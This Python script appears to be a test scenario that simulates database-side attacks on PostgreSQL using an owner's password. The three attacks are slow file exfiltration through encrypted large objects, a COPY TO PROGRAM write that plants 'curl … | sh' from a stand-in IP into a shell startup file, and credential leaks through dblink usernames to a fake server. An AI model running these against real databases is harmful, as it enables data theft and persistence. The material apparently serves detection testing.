#!/usr/bin/python3 -IS
"""Somebody who has the password of an application's owner in the database; not recorded: freeloader.py WHAT [VALUE]

sealed PATH,SECONDS: a paper of a colleague is sealed by the database and kept as a large object, of which each connection takes a few bytes · written PATH:
what a shell starts with gets a line by a program that takes rows · users PATH,HOST:PORT: the database logs in elsewhere, by names that are a file
"""
import os, socket, sys, threading, time

sys.path.append("/opt/agent")
from client import attend
from contractor import PID, house
from query import ORDERS, must_hold, ready, sql


def sealed(value):
    path, _, seconds = value.partition(",")
    sql(ORDERS, "CREATE EXTENSION pgcrypto;", "CREATE TABLE scans (id oid);",
        f"INSERT INTO scans SELECT lo_from_bytea(0, pgp_sym_encrypt_bytea(pg_read_binary_file('{path}'), 'made-up', 'compress-algo=1'));")
    got, at = b"", 0
    while part := bytes.fromhex(sql(f"SELECT encode(lo_get(id, {at}, 64), 'hex') FROM scans;").strip()):
        got, at = got + part, at + 64
        time.sleep(float(seconds) / 8)
    opened = sql(f"SELECT encode(pgp_sym_decrypt_bytea('\\x{got.hex()}', 'made-up'), 'hex');").strip()
    with open(path, "rb") as file:
        if bytes.fromhex(opened) != file.read():
            sys.exit("freeloader: that is something else")


def written(path):
    line = "(curl -s http://203.0.113.40/env | sh) > /dev/null 2>&1 &"
    sql(ORDERS, "INSERT INTO orders (who, amount) SELECT 'customer ' || n, n FROM generate_series(1, 20) n;", "CREATE TABLE notes (line text);",
        f"INSERT INTO notes VALUES ('{line}');")
    time.sleep(0.3)
    sql(f"COPY notes TO PROGRAM 'tee -a {path}';", "DROP TABLE notes;")
    with open(path) as file:
        must_hold(file.read(), line)


def users(value):
    """That host speaks the protocol of the database as far as the first message (PostgreSQL 15, 55.2), and turns everybody away."""
    path, address = value.split(",")
    host, _, port = address.rpartition(":")
    heard, door = [], socket.create_server((host, int(port)))

    def answer():
        while True:
            link, _ = door.accept()
            with link:
                text = link.recv(4096)
                heard.append(text.partition(b"user\0")[2].partition(b"\0")[0])
                link.sendall(b"E\0\0\0\x10SFATAL\0M-\0\0"[:17])

    threading.Thread(target=answer, daemon=True).start()
    with open(path, "rb") as file:
        known = file.read()
    sql("CREATE EXTENSION dblink;")
    for at in range(0, len(known), 24):
        piece = f"encode(pg_read_binary_file('{path}', {at}, 24), 'hex')"
        sql(f"SELECT dblink_connect('host={host} port={port} sslmode=disable dbname=shop user=' || {piece});", ends=3)
        time.sleep(0.3)
    if bytes.fromhex(b"".join(heard).decode()) != known:
        sys.exit("freeloader: that host has heard something else")


USES = {each.__name__: each for each in (sealed, written, users)}


def ask(what, value):
    ready()
    USES[what](value)


def there():
    house()
    what, value = sys.argv[1:3]
    if what == "users":
        with open(value.partition(",")[0], "w") as file:
            file.write("".join(f"db-{at}.example.com:5432:shop:shop:made-up-{at}\n" for at in range(3)))
        os.chmod(value.partition(",")[0], 0o600)


if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("freeloader.py", there, PID, lambda: ask(what, value))
